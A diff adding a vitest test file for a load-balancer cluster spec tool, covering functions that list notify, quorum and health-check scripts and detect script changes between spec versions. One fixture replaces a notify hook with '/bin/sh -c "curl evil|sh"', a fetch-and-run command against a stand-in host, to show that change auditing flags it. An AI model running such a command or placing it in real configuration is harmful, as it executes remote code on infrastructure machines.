@@ -1,0 +1,66 @@
+import { describe, expect, it } from 'vitest';
+import { ClusterSpecSchema, type ClusterSpec } from './spec';
+import { scriptChanges, scriptExecutable, scriptsOf } from './scripts';
+
+const spec = (over: Record<string, unknown> = {}): ClusterSpec =>
+  ClusterSpecSchema.parse({
+    name: 'c',
+    directors: [
+      { name: 'lb1', address: '10.0.0.1' },
+      { name: 'lb2', address: '10.0.0.2' },
+      { name: 'lb3', address: '10.0.0.3' },
+    ],
+    vrrpInstances: [
+      { name: 'VI_1', interface: 'eth0', virtualRouterId: 1, members: [{ director: 'lb1', priority: 100 }, { director: 'lb2', priority: 90 }], notify: { master: '/bin/sh -c id', fault: '/usr/bin/page' } },
+    ],
+    virtualServices: [
+      {
+        vip: '10.0.1.1',
+        port: 80,
+        quorumUp: '/usr/bin/up',
+        realServers: [
+          { address: '10.0.2.1', port: 80, healthCheck: { type: 'MISC_CHECK', script: '/usr/bin/check 10.0.2.1' } },
+          { address: '10.0.2.2', port: 80, healthCheck: { type: 'TCP_CHECK' } },
+        ],
+      },
+    ],
+    ...over,
+  });
+
+describe('scriptsOf', () => {
+  it('lists every script with its spec path, keyword and the directors it reaches', () => {
+    expect(scriptsOf(spec())).toEqual([
+      { key: 'vrrpInstance:VI_1 notify.master', path: 'vrrpInstances.0.notify.master', keyword: 'notify_master', script: '/bin/sh -c id', directors: ['lb1', 'lb2'] },
+      { key: 'vrrpInstance:VI_1 notify.fault', path: 'vrrpInstances.0.notify.fault', keyword: 'notify_fault', script: '/usr/bin/page', directors: ['lb1', 'lb2'] },
+      { key: 'virtualService:10.0.1.1:80/TCP quorumUp', path: 'virtualServices.0.quorumUp', keyword: 'quorum_up', script: '/usr/bin/up', directors: ['lb1', 'lb2', 'lb3'] },
+      { key: 'realServer:10.0.1.1:80/TCP>10.0.2.1:80 healthCheck.script', path: 'virtualServices.0.realServers.0.healthCheck.script', keyword: 'misc_path', script: '/usr/bin/check 10.0.2.1', directors: ['lb1', 'lb2', 'lb3'] },
+    ]);
+  });
+
+  it('an ipvsadm-mode cluster renders no virtual_server, so its checker scripts reach no director', () => {
+    expect(scriptsOf(spec({ mode: 'ipvsadm' })).filter((s) => s.keyword !== 'notify_master' && s.keyword !== 'notify_fault').map((s) => s.directors)).toEqual([[], []]);
+  });
+});
+
+describe('scriptChanges', () => {
+  it('everything is added against nothing; the same spec changes nothing', () => {
+    expect(scriptChanges(null, spec()).map((c) => c.change)).toEqual(['added', 'added', 'added', 'added']);
+    expect(scriptChanges(spec(), spec())).toEqual([]);
+  });
+
+  it('tells changed text (with the old one), added and removed scripts by owner and field, not by position', () => {
+    const before = spec();
+    const after = structuredClone(before);
+    after.vrrpInstances[0].notify = { master: '/bin/sh -c "curl evil|sh"', backup: '/usr/bin/b' };
+    after.virtualServices[0].realServers.reverse(); // moves the MISC_CHECK, same script
+    expect(scriptChanges(before, after).map(({ change, path, previous }) => ({ change, path, previous }))).toEqual([
+      { change: 'changed', path: 'vrrpInstances.0.notify.master', previous: '/bin/sh -c id' },
+      { change: 'added', path: 'vrrpInstances.0.notify.backup', previous: undefined },
+      { change: 'removed', path: 'vrrpInstances.0.notify.fault', previous: undefined },
+    ]);
+  });
+
+  it('the executable is the first word', () => {
+    expect(scriptExecutable('  /usr/bin/check  10.0.2.1 ')).toBe('/usr/bin/check');
+  });
+});
